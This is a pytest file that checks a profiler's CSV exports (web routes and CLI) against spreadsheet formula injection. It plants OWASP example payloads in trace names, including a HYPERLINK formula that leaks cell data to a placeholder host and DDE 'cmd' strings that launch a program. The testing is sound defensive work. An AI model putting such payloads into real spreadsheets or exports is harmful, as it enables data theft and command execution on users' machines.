"""CSV cells from profile text never start a spreadsheet formula (issue #25, OWASP "CSV
injection"): a text cell starting with = + - @ tab or CR gets a leading ', in ``/csv``,
``/compare_csv`` and ``tbprof show --format csv`` alike, while numbers (negative ones too) stay
numbers. frontend/src/base/csv.test.ts checks the page's own export against the same table.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest

from tbprof.analyses.encode import csv_text_cell
from tests.conftest import SAMPLE_PROFILES
from tests.hostile.profiles import rename_chrome_trace
from tests.servers import PLUGIN_SRC, Server, tbprof_serve

# OWASP's examples of formula payloads; every op name of the trace gets one as its prefix.
PAYLOADS = ('=HYPERLINK("http://example.invalid/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(("text", "cell"), [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    ("-inf", "'-inf"),
    # A text cell that is a plain decimal number is no formula: it keeps its value.
    ("-1.5", "-1.5"),
    ("+2e-3", "+2e-3"),
    ("-.5", "-.5"),
    ("MatMul", "MatMul"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_csv_text_cell(text: str, cell: str) -> None:
    assert csv_text_cell(text) == cell


def _payload_trace(logdir: Path) -> None:
    src = SAMPLE_PROFILES / "torch_cnn"
    trace = next(src.glob("*.pt.trace.json"))
    counter = iter(range(1 << 30))

    def rename(name: str, what: str) -> str:
        if what != "event":
            return name
        return PAYLOADS[next(counter) % len(PAYLOADS)] + name

    rename_chrome_trace(trace, logdir / "formulas" / trace.name, rename)


def _assert_no_formula(text: str, what: str) -> int:
    """Every cell is safe; returns how many cells were neutralised (start with ')."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 1, what
    neutralised = 0
    for row in rows:
        for cell in row:
            if cell.startswith("'") and cell[1:2] in FORMULA_START:
                neutralised += 1
            elif cell.startswith(FORMULA_START):
                float(cell)  # only a number may start with + or -: raises on anything else
    return neutralised


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, Path]]:
    root = tmp_path_factory.mktemp("csv")
    _payload_trace(root / "logs")
    with tbprof_serve(root / "logs", root / "cache", root / "server.log") as s:
        yield s, root / "logs"


@pytest.mark.parametrize("table", ["", "ops"])
def test_csv_route_neutralises_formulas(formulas: tuple[Server, Path], table: str) -> None:
    """Every op name carries a payload; a CR one would start a new row if left unquoted."""
    server, _ = formulas
    query = {"run": "formulas", "tool": "framework_op_stats"} | ({"table": table} if table else {})
    status, _, body = server.get("csv?" + urllib.parse.urlencode(query))
    assert status == 200, body[:300]
    assert _assert_no_formula(body.decode(), table) > 0


def test_numbers_stay_numbers(formulas: tuple[Server, Path]) -> None:
    """Numeric columns are written as numbers: no ' in front, negative values included."""
    server, _ = formulas
    status, _, body = server.get("csv?" + urllib.parse.urlencode({"run": "formulas", "tool": "framework_op_stats"}))
    assert status == 200
    rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
    numeric = [i for i, cell in enumerate(rows[1]) if cell and cell.lstrip("-").replace(".", "", 1).isdigit()]
    assert numeric, rows[:2]
    for row in rows[1:]:
        for i in numeric:
            if row[i]:
                float(row[i])
    assert csv_text_cell("-12.5") == "-12.5" and csv_text_cell("-3") == "-3"


def test_show_format_csv_neutralises_formulas(formulas: tuple[Server, Path], tmp_path: Path) -> None:
    _, logdir = formulas
    env = dict(os.environ, PYTHONPATH=str(PLUGIN_SRC), TBPROF_CACHE_DIR=str(tmp_path / "cache"))
    proc = subprocess.run([sys.executable, "-m", "tbprof.cli", "show", "framework_op_stats", str(logdir / "formulas"),
                           "--format", "csv"], capture_output=True, timeout=300, env=env)
    assert proc.returncode == 0, proc.stderr
    assert _assert_no_formula(proc.stdout.decode(), "tbprof show") > 0
